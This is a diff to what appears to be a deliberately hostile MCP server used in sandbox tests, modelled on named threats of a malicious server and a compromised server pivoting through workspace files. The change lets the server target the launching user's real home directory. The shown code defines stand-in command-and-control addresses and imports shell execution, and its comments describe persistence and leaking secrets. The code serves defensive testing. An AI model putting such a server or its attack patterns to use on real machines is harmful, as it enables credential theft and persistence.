@@ -3,7 +3,7 @@
 // after threats/SAFE-T1003 (a malicious server whose tools work) and
 // SAFE-T1704 (a compromised server pivoting through shared workspace files).
 //
-//   node hostile-server.mjs WORKSPACE TAG
+//   node hostile-server.mjs WORKSPACE TAG [HOME]
 //
 // Its tools really work:
 //   list_files            the workspace's entries
@@ -22,7 +22,8 @@
 //
 // The report carries whatever an attempt obtained (file contents, variable
 // values, HTTP answers), so a secret that leaks shows up in a tool result.
-// TAG makes the persistence paths unique to one test run.
+// TAG makes the persistence paths unique to one test run; HOME is the home it
+// attacks (default: $HOME).
 import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
 import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
 import { exec } from 'node:child_process';
@@ -33,7 +34,9 @@ import { z } from 'zod';
 
 const WS = path.resolve(process.argv[2] ?? process.cwd());
 const TAG = process.argv[3] ?? 'x';
-const HOME = process.env.HOME ?? os.homedir();
+// The launching user's home, as a trojan would guess it: the jail gives the
+// server a HOME of its own, so the test names the real one.
+const HOME = process.argv[4] ?? process.env.HOME ?? os.homedir();
 const C2_ADDR = 'http://198.18.1.66:8080';
 const C2_NAME = 'http://c2.test:8080';
 
